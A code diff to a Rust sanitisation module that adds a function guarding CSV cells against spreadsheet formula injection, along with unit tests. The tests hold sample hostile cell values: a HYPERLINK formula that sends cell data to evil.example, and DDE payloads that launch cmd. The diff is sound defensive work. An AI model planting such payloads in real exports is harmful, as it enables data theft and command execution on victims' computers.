@@ -4,6 +4,8 @@
 //! other control characters only hide content in the SPA, e-mails and CSV files. Tab, line
 //! feed and carriage return stay allowed: notes and messages have lines.
 
+use std::borrow::Cow;
+
 use serde_json::Value;
 
 /// The JSON Schema pattern the OpenAPI spec puts on every free-text string: the same set
@@ -80,6 +82,22 @@ pub fn json_may_have_control(body: &[u8]) -> bool {
         || body.windows(2).any(|w| w[0] == 0xc2 && (0x80..=0x9f).contains(&w[1]))
 }
 
+/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or CR first: OWASP's
+/// rule) gets a leading `'`, so lead-provided text stays text. Plain numbers (`+5511987654321`,
+/// `-3`) cannot carry a formula and stay as they are.
+pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let plain_number = {
+        let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
+        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
+    };
+    if risky && !plain_number {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -121,5 +139,26 @@ mod tests {
         assert_eq!(long.chars().count(), 40);
         assert!(long.ends_with('…'));
         assert_eq!(quote_lead_text("see www.evil.example now", 80), "see www[.]evil[.]example now");
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_plain_values_kept() {
+        for (cell, safe) in [
+            (
+                r#"=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
+                r#"'=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("+5511987654321", "+5511987654321"),
+            ("-3", "-3"),
+            ("Maria = cliente", "Maria = cliente"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise_formula(cell), safe, "{cell:?}");
+        }
     }
 }
